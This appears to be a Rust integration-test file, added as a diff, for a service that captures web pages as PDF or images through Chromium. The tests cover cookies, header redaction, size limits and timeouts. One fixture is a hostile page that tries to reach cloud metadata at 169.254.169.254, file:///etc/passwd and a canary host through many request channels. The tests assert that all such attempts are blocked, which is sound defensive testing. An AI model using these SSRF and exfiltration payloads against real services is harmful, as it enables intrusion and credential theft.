@@ -1,0 +1,294 @@
+//! Pages of the web become files, and reach nothing that an import could not.
+
+use std::os::unix::fs::symlink;
+use std::sync::{Arc, Mutex};
+
+use axum::Router;
+use axum::extract::State;
+use axum::http::{HeaderMap, StatusCode, Uri, header};
+use axum::response::{Html, IntoResponse, Redirect, Response};
+use engines::Catalogue;
+use image::ImageFormat;
+use serde_json::{Value, json};
+use tokio::net::TcpListener;
+
+use crate::harness::{Receiver, World, isolated, missing, task, text};
+use crate::tasks::{end, export, raw, url};
+
+/// A site on this machine: it keeps which headers it was asked with, and leads to a place that may not be reached.
+#[derive(Clone)]
+struct Site {
+    host: String,
+    canary: String,
+    asked: Arc<Mutex<Vec<(String, HeaderMap)>>>,
+}
+
+impl Site {
+    async fn new(canary: &Receiver) -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let host = listener.local_addr().unwrap().to_string();
+        let site = Self { host, canary: canary.host.clone(), asked: Arc::default() };
+        let router = Router::new().fallback(serve).with_state(site.clone());
+        tokio::spawn(async move { axum::serve(listener, router).await });
+        site
+    }
+
+    fn headers(&self, path: &str) -> Option<HeaderMap> {
+        let asked = self.asked.lock().unwrap();
+        asked.iter().find(|(asked, _)| asked == path).map(|(_, headers)| headers.clone())
+    }
+}
+
+const PAGE: &str = "<!DOCTYPE html><title>Tea</title><link rel=stylesheet href=/style.css>
+    <body style='margin:0'><h1>Tea and coffee</h1><p id=cookie></p><script src=/script.js></script>";
+
+const SCRIPT: &str = "document.getElementById('cookie').append(document.cookie);
+    fetch('/data').then(it => it.json()).then(it => document.body.append('answer ' + it.answer));";
+
+async fn serve(State(site): State<Site>, uri: Uri, headers: HeaderMap) -> Response {
+    site.asked.lock().unwrap().push((uri.path().to_owned(), headers));
+    let of = |kind: &'static str, body: &str| {
+        ([(header::CONTENT_TYPE, kind)], body.to_owned()).into_response()
+    };
+    match uri.path() {
+        "/start" => ([(header::SET_COOKIE, "visited=yes")], Redirect::to("/page")).into_response(),
+        "/page" => Html(PAGE).into_response(),
+        "/style.css" => of("text/css", "body { background: #0000ff; color: #ffffff }"),
+        "/script.js" => of("text/javascript", SCRIPT),
+        "/data" => of("application/json", r#"{ "answer": 42 }"#),
+        "/hostile" => Html(hostile(&site.canary)).into_response(),
+        "/inwards" => {
+            Redirect::temporary(&format!("http://{}/inwards", site.canary)).into_response()
+        }
+        "/metadata" => Redirect::temporary("http://169.254.169.254/latest").into_response(),
+        "/tall" => Html("<div style='height:20000px'>tall</div>").into_response(),
+        "/never" => std::future::pending().await,
+        _ => (StatusCode::NOT_FOUND, Html("<h1>Not here</h1>")).into_response(),
+    }
+}
+
+/// A page that tries every way there is to what it may not reach.
+fn hostile(canary: &str) -> String {
+    format!(
+        "<p>the page</p><img src='http://{canary}/img'><img src='/inwards'><img src='/metadata'>
+        <img src='http://169.254.169.254/latest/meta-data/'><img src='file:///etc/passwd'>
+        <iframe src='http://{canary}/frame'></iframe><iframe src='file:///etc/passwd'></iframe>
+        <iframe src='http://169.254.169.254/'></iframe><iframe src='/inwards'></iframe>
+        <object data='file:///etc/passwd'></object><embed src='http://{canary}/embed'>
+        <link rel=stylesheet href='http://{canary}/style'><link rel=preconnect href='http://{canary}'>
+        <style>@import 'http://{canary}/import'; p {{ background: url('http://{canary}/url') }}</style>
+        <video src='http://{canary}/video' autoplay></video>
+        <script src='http://{canary}/script'></script>
+        <script>
+        const say = text => document.body.append(text + ' ');
+        for (const url of ['http://{canary}/fetch', 'file:///etc/passwd', '/inwards', 'http://169.254.169.254/']) {{
+            fetch(url).then(it => it.text()).then(say, () => {{}});
+            fetch(url, {{ mode: 'no-cors', method: 'POST', body: 'a' }}).then(() => say('sent'), () => {{}});
+            navigator.sendBeacon(url, 'a');
+            try {{ importScripts(url) }} catch {{}}
+            window.open(url);
+        }}
+        new WebSocket('ws://{canary}/socket').onopen = () => say('opened');
+        new EventSource('http://{canary}/events').onopen = () => say('streamed');
+        const code = \"fetch('http://{canary}/worker').then(() => postMessage('fetched'), () => {{}}); new WebSocket('ws://{canary}/socket')\";
+        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = it => say(it.data);
+        const peer = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{canary}' }}] }});
+        peer.createDataChannel('a'); peer.createOffer().then(it => peer.setLocalDescription(it));
+        </script>"
+    )
+}
+
+/// A world with Chromium, a site that it may reach, and a place that it may not.
+struct Stage {
+    world: World,
+    site: Site,
+    canary: Receiver,
+}
+
+impl Stage {
+    /// Returns nothing where Chromium is missing and need not be there.
+    async fn set() -> Option<Self> {
+        if missing("chromium") {
+            return None;
+        }
+        // Chromium alone: to ask all programs for their versions takes a while.
+        let folder = tempfile::tempdir().unwrap();
+        let path = std::env::var_os("PATH").unwrap();
+        let found = std::env::split_paths(&path).find(|it| it.join("chromium").is_file()).unwrap();
+        symlink(found.join("chromium"), folder.path().join("chromium")).unwrap();
+        let catalogue = isolated(Catalogue::probe(folder.keep().as_os_str()).await);
+        let canary = Receiver::new().await;
+        let site = Site::new(&canary).await;
+        let host = site.host.clone();
+        let world = World::with(|options| {
+            (options.catalogue, options.allow_hosts) = (catalogue, host);
+        });
+        Some(Self { world: world.await, site, canary })
+    }
+
+    fn payload(&self, path: &str, more: Value) -> Value {
+        let url = format!("http://{}{path}", self.site.host);
+        let mut payload =
+            json!({ "operation": "capture-website", "url": url, "output_format": "pdf" });
+        payload.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        payload
+    }
+
+    /// Captures a page and returns the task, and the file if there is one.
+    async fn capture(&self, path: &str, more: Value) -> (Value, Vec<u8>) {
+        let tasks = json!({ "page": self.payload(path, more), "out": export("page") });
+        let job = self.world.create(tasks).await;
+        let job = self.world.ended(&job).await;
+        let page = task(&job, "page").clone();
+        if page["status"] != "finished" {
+            return (page, Vec::new());
+        }
+        let file = self.world.download(url(task(&job, "out"), 0)).await;
+        (page, file)
+    }
+}
+
+/// Returns the text of a PDF, by poppler.
+fn words(pdf: &[u8]) -> String {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("page.pdf");
+    std::fs::write(&path, pdf).unwrap();
+    let output = std::process::Command::new("pdftotext").arg(&path).arg("-").output();
+    String::from_utf8(output.expect("pdftotext is installed").stdout).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_becomes_pdf_with_what_its_scripts_have_made_of_it() {
+    let Some(stage) = Stage::set().await else { return };
+    let more = json!({ "wait_until": "networkidle0", "headers": { "x-secret": "42" } });
+    let (page, pdf) = stage.capture("/start", more).await;
+    assert_eq!(page["status"], "finished", "{page}");
+    assert_eq!((&page["engine"], &page["percent"]), (&json!("chrome"), &json!(100)));
+    assert_eq!(page["result"]["files"][0]["filename"], "127.0.0.1.pdf");
+    let said = words(&pdf);
+    for part in ["Tea and coffee", "visited=yes", "answer 42"] {
+        assert!(said.contains(part), "{part} is missing in {said}");
+    }
+    let headers = stage.site.headers("/data").unwrap();
+    assert!(headers["x-secret"] == "42" && headers["cookie"] == "visited=yes", "{headers:?}");
+    let shown = stage.world.get(&format!("/tasks/{}?include=payload", text(&page["id"]))).await;
+    assert_eq!(shown.data()["payload"]["headers"]["x-secret"], "***");
+    let row = stage.world.store().task(text(&page["id"]).parse().unwrap()).await.unwrap().unwrap();
+    assert_eq!(row.payload, domain::Payload::Stored);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_becomes_a_picture() {
+    let Some(stage) = Stage::set().await else { return };
+    for (format, kind) in [("png", ImageFormat::Png), ("jpg", ImageFormat::Jpeg)] {
+        let more =
+            json!({ "output_format": format, "width": 400, "height": 300, "filename": "mine" });
+        let (page, picture) = stage.capture("/page", more).await;
+        assert_eq!(page["result"]["files"][0]["filename"], "mine");
+        assert_eq!(image::guess_format(&picture).unwrap(), kind);
+        let picture = image::load_from_memory(&picture).unwrap().to_rgb8();
+        assert_eq!(picture.dimensions(), (400, 300));
+        let corner = picture.get_pixel(399, 299).0;
+        assert!(corner[2] > 250 && corner[0] < 5, "{corner:?}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_reaches_nothing_that_is_private() {
+    let Some(stage) = Stage::set().await else { return };
+    for format in ["pdf", "png"] {
+        let more = json!({ "output_format": format, "wait_time": 2000 });
+        let (page, file) = stage.capture("/hostile", more).await;
+        assert_eq!(page["status"], "finished", "{page}");
+        if format == "pdf" {
+            let said = words(&file);
+            assert!(said.contains("the page"), "{said}");
+            for part in ["root:", "thank you", "sent", "opened", "streamed", "fetched"] {
+                assert!(!said.contains(part), "{part} is in {said}");
+            }
+        }
+    }
+    assert!(stage.site.headers("/inwards").is_some() && stage.site.headers("/metadata").is_some());
+    let heard = stage.canary.messages();
+    assert!(heard.is_empty(), "{heard:?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_cannot_be_had_fails_with_its_cause() {
+    let Some(stage) = Stage::set().await else { return };
+    let check = async |path: &str, more: Value, expected: [&str; 3]| {
+        let (page, _) = stage.capture(path, more).await;
+        assert_eq!(end(&page), expected, "{path}");
+    };
+    let private = "The url points to a private address.";
+    check("/missing", json!({}), ["error", "DOWNLOAD_FAILED", "127.0.0.1 answered 404"]).await;
+    for path in ["/inwards", "/metadata"] {
+        check(path, json!({}), ["error", "DOWNLOAD_FAILED", private]).await;
+    }
+    let message = "The page has 1280 x 20016 pixels: a picture of one may have 16384 a side and 100 million in all";
+    let picture = json!({ "output_format": "png" });
+    check("/tall", picture, ["error", "FILE_TOO_LARGE", message]).await;
+    assert!(stage.canary.messages().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_page_that_never_comes_ends_when_the_task_does() {
+    let Some(stage) = Stage::set().await else { return };
+    let payload = stage.payload("/never", json!({ "timeout": 3 }));
+    let job = stage.world.create(json!({ "page": payload })).await;
+    let says = async || {
+        let page = stage.world.get(&format!("/tasks/{}", text(&task(&job, "page")["id"]))).await;
+        (page.data()["message"] == "waiting for the page").then_some(())
+    };
+    stage.world.until(says).await;
+    let job = stage.world.ended(&job).await;
+    let expected = ["error", "TIMEOUT", "The task took longer than it may."];
+    assert_eq!(end(task(&job, "page")), expected);
+    stage.world.until(async || stage.world.stack.is_idle().then_some(())).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_file_becomes_pdf_and_fetches_nothing() {
+    let Some(stage) = Stage::set().await else { return };
+    let page = hostile(&stage.canary.host).replace("'/", &format!("'http://{}/", stage.site.host));
+    let job = json!({
+        "in": raw(&format!("<!DOCTYPE html>{page}"), "page.html"),
+        "pdf": { "operation": "convert", "input": "in", "output_format": "pdf", "wait_time": 1000 },
+        "out": export("pdf"),
+    });
+    let job = stage.world.ended(&stage.world.create(job).await).await;
+    assert_eq!(job["status"], "finished", "{job}");
+    assert_eq!(task(&job, "pdf")["engine"], "chrome");
+    let said = words(&stage.world.download(url(task(&job, "out"), 0)).await);
+    assert!(said.contains("the page") && !said.contains("root:"), "{said}");
+    assert!(stage.site.asked.lock().unwrap().is_empty() && stage.canary.messages().is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn it_is_listed_and_checked_where_chromium_is_and_refused_elsewhere() {
+    let world =
+        World::with(|options| options.catalogue = Catalogue::from_setting("chrome=156.0")).await;
+    let listed = async |world: &World| {
+        let path = "/operations?filter[operation]=capture-website&include=options";
+        world.get(path).await.data().as_array().unwrap().clone()
+    };
+    let items = listed(&world).await;
+    let formats: Vec<_> = items.iter().map(|item| text(&item["output_format"])).collect();
+    assert_eq!(formats, ["jpg", "pdf", "png"]);
+    let options = items[1]["options"].as_array().unwrap();
+    let wait = options.iter().find(|option| option["name"] == "wait_until").unwrap();
+    assert_eq!((&wait["type"], &wait["default"]), (&json!("enum"), &json!("load")));
+    let payload = json!({ "url": "file:///etc/passwd", "output_format": "gif" });
+    let refused = world.post("/capture-website", &payload).await;
+    let errors = json!({
+        "url": ["The url must begin with http:// or https://."],
+        "output_format": ["The output format must be one of pdf, png, jpg."],
+    });
+    assert_eq!((refused.status, &refused.json()["errors"]), (422, &errors));
+    let without = World::new().await;
+    assert!(listed(&without).await.is_empty());
+    let payload = json!({ "url": "https://example.org/", "output_format": "pdf" });
+    let refused = without.post("/capture-website", &payload).await;
+    let told = "capture-website needs chromium, which is not installed (apt-get install chromium).";
+    assert_eq!((refused.status, &refused.json()["errors"]), (422, &json!({ "operation": [told] })));
+}
